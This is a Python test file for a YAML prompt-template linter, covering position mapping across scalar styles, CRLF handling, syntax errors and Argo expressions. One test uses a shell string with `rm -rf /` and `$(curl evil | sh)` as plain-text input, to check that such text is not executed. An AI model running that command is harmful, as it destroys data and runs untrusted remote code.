"""Template positions mapped back into the YAML file, through every way YAML can write a string."""

from __future__ import annotations

import pytest
import yaml
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from prompt_cases import BASE, lint_text, pos_of, where

from llmgitops.manifests.loader import load_text
from llmgitops.prompts.scalars import DocumentPositions

MESSAGES = BASE[BASE.index("  messages:\n"):BASE.index("  examples:\n")]


def with_messages(messages: str) -> str:
    return BASE.replace(MESSAGES, "  messages:\n" + messages)


SYSTEM = "    - role: system\n      content: Answer briefly.\n"

# (case id, the messages block, needle: where `nope` must be reported, nth occurrence)
STYLES: list[tuple[str, str, str, int]] = [
    ("literal", "    - role: user\n      content: |\n        <question>{{ question }}</question>\n"
                "        second line {{ nope }}\n", "nope", 0),
    ("literal-strip-keep", "    - role: user\n      content: |-\n\n        <q>{{ question }}</q>\n"
                           "          more indented {{ nope }}\n\n", "nope", 0),
    ("literal-indicator", "    - role: user\n      content: |2\n          two extra spaces {{ nope }}\n"
                          "        <question>{{ question }}</question>\n", "nope", 0),
    ("literal-indicator-chomp", "    - role: user\n      content: |4-\n            deeper {{ nope }}\n"
                                "          <question>{{ question }}</question>\n", "nope", 0),
    ("folded", "    - role: user\n      content: >\n        <question>{{ question }}</question>\n"
               "        folded onto the first line\n\n        new paragraph {{ nope }}\n", "nope", 0),
    ("folded-more-indented", "    - role: user\n      content: >-\n        <q>{{ question }}</q>\n"
                             "          kept as is {{ nope }}\n        back\n", "nope", 0),
    ("double-quoted", '    - role: user\n      content: "Tab\\there \\u00e9 \\"q\\" <q>{{ question }}</q>'
                      ' {{ nope }}"\n', "nope", 0),
    ("double-quoted-multiline", '    - role: user\n      content: "<q>{{ question }}</q>\n        folded\n\n'
                                '        kept \\\n        joined {{ nope }}"\n', "nope", 0),
    ("single-quoted", "    - role: user\n      content: 'It''s <q>{{ question }}</q> {{ nope }}'\n", "nope", 0),
    ("plain-multiline", "    - role: user\n      content: <q>{{ question }}</q>\n        continued {{ nope }}\n",
     "nope", 0),
    ("flow-mapping", '    - {role: user, content: "<q>{{ question }}</q> {{ nope }}"}\n', "nope", 0),
    ("tagged-anchored", "    - role: user\n      content: &c !!str |\n        <q>{{ question }}</q> {{ nope }}\n",
     "nope", 0),
]


@pytest.mark.parametrize(("messages", "needle", "nth"), [c[1:] for c in STYLES], ids=[c[0] for c in STYLES])
def test_template_position_in_each_scalar_style(messages: str, needle: str, nth: int) -> None:
    text = with_messages(SYSTEM + messages)
    assert where(lint_text(text), "prompt/undeclared-variable") == [pos_of(text, needle, nth)]


def test_multi_message_prompt_points_into_the_right_message() -> None:
    messages = (SYSTEM + "    - role: user\n      content: <q>{{ question }}</q>\n"
                "    - role: assistant\n      content: |\n        Sure.\n        {{ nope }}\n"
                "    - role: user\n      content: \"and {{ nope }} again\"\n")
    text = with_messages(messages)
    assert where(lint_text(text), "prompt/undeclared-variable") == [pos_of(text, "nope", 0),
                                                                    pos_of(text, "nope", 1)]


def test_crlf_file() -> None:
    text = with_messages(SYSTEM + "    - role: user\n      content: |\n        <q>{{ question }}</q>\n"
                                  "        then {{ nope }}\n").replace("\n", "\r\n")
    line, column = pos_of(text.replace("\r\n", "\n"), "nope")
    assert where(lint_text(text), "prompt/undeclared-variable") == [(line, column)]


def test_syntax_error_line_inside_block() -> None:
    text = with_messages(SYSTEM + "    - role: user\n      content: |\n        <q>{{ question }}</q>\n"
                                  "        ok\n        {% if question %}never closed\n")
    (finding,) = [f for f in lint_text(text) if f.rule == "prompt/template-syntax"]
    assert (finding.line, finding.column) == pos_of(text, "{% if question")
    assert "endif" in finding.message


def test_argo_and_shell_text_is_plain_text() -> None:
    """Argo expressions are Jinja syntax too: in a prompt they are either escaped (raw, a string literal)
    and then plain text, or a variable the prompt must declare. Shell metacharacters are plain text."""
    shell = "Run `rm -rf /`; $(curl evil | sh) && echo $HOME > /dev/null; 'quotes' \"too\" \\ back"
    messages = (SYSTEM + "    - role: user\n      content: |\n        <q>{{ question }}</q>\n"
                f"        {shell}\n"
                "        {% raw %}{{workflow.name}} {{=sprig.trim(inputs.parameters.x)}}{% endraw %}\n"
                "        {{ '{{workflow.uid}}' }}\n")
    text = with_messages(messages)
    assert lint_text(text) == []
    from llmgitops.prompts.render import render
    from llmgitops.prompts.template import templates_of

    doc = load_text(text, "p.yaml").document
    assert doc is not None
    rendered = render(templates_of(doc.data["spec"], DocumentPositions(doc)), {"question": "q"})
    assert isinstance(rendered, list)
    assert shell in rendered[1]
    assert "{{workflow.name}} {{=sprig.trim(inputs.parameters.x)}}" in rendered[1]
    assert "{{workflow.uid}}" in rendered[1]

    bare = with_messages(SYSTEM + "    - role: user\n      content: <q>{{ question }}</q> {{workflow.name}}\n")
    assert where(lint_text(bare), "prompt/undeclared-variable") == [pos_of(bare, "workflow")]
    argo_only = with_messages(SYSTEM + "    - role: user\n      content: <q>{{ question }}</q> {{=sprig.x}}\n")
    assert where(lint_text(argo_only), "prompt/template-syntax") == [pos_of(argo_only, "{{ question")]


STYLE_NAMES = st.sampled_from([None, "'", '"', "|", ">"])
TEXT = st.text(alphabet=st.sampled_from(list("ab c\n\t{}%#:'\"\\-é€😀x  \n")), max_size=60)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(value=TEXT, style=STYLE_NAMES, width=st.sampled_from([10, 20, 80]), indent=st.sampled_from([2, 3, 4]),
       lead=st.sampled_from(["", " ", "  ", "\n"]))
def test_every_character_maps_back_to_its_source(value: str, style: str | None, width: int, indent: int,
                                                 lead: str) -> None:
    """Whatever style PyYAML's emitter picks (folding, escapes, indentation indicators), each character
    of the loaded string maps to the source character it came from."""
    value = lead + value
    node = yaml.ScalarNode("tag:yaml.org,2002:str", value, style=style)
    key = yaml.ScalarNode("tag:yaml.org,2002:str", "content")
    item = yaml.MappingNode("tag:yaml.org,2002:map", [(key, node)])
    root = yaml.MappingNode("tag:yaml.org,2002:map", [(yaml.ScalarNode("tag:yaml.org,2002:str", "spec"),
                                                        yaml.SequenceNode("tag:yaml.org,2002:seq", [item]))])
    text = yaml.serialize(root, allow_unicode=True, width=width, indent=indent)
    doc = load_text(text, "x.yaml").document
    assert doc is not None
    path = ("spec", 0, "content")
    assume(doc.get(path) == value)  # PyYAML's emitter does not round-trip every folded scalar
    smap = DocumentPositions(doc).scalar(path)
    assert smap is not None and smap.exact, (value, text)
    for i, char in enumerate(value):
        source = text[smap.offsets[i]]
        assert source == char or char in " \n" or source in "\\'", (i, char, source, text)
